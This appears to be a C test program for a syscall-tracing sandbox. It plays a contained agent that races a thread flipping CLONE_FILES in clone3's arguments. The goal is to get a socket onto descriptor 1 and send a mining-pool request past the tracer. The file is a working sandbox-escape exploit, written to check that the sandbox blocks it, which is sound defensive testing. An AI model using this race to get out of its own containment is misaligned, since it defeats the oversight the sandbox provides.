// An agent that races the tracer's reading of clone3's flags (they are in
// memory): a second thread flips CLONE_FILES in and out of the clone_args while
// the first calls clone3, until a child shares the descriptor table without
// the tracer having seen the flag. That child puts a socket on descriptor 1;
// the parent, whose writes to 1 would then run unstopped, writes its stratum
// request there.
//   rogue_clone3_files PORT
// Prints "went through" on stderr if the write went out (it must not under the pack).
#define _GNU_SOURCE
#include <linux/sched.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "stratum.h"

static struct clone_args args;
static volatile int done;

static void *flipper(void *unused) {
    (void)unused;
    volatile uint64_t *flags = (volatile uint64_t *)&args.flags;
    while (!done) {
        *flags = CLONE_FILES;
        *flags = 0;
    }
    return NULL;
}

static int stdout_is_socket(void) {
    struct stat st;
    return fstat(1, &st) == 0 && S_ISSOCK(st.st_mode);
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    int s = pool_connect(argv[1]);
    if (s < 0) return 3;
    pthread_t t;
    pthread_create(&t, NULL, flipper, NULL);
    for (int attempt = 0; attempt < 300 && !stdout_is_socket(); attempt++) {
        args.exit_signal = SIGCHLD;
        long pid = syscall(SYS_clone3, &args, sizeof args);
        if (pid == 0) {
            // Shared or not, the child puts the socket on its descriptor 1.
            dup2(s, 1);
            _exit(0);
        }
        if (pid > 0) waitpid((pid_t)pid, NULL, 0);
    }
    done = 1;
    pthread_join(t, NULL);
    if (!stdout_is_socket()) {
        fprintf(stderr, "no shared table in 300 tries\n");
        return 5;
    }
    stratum_write(1);
    return 0;
}
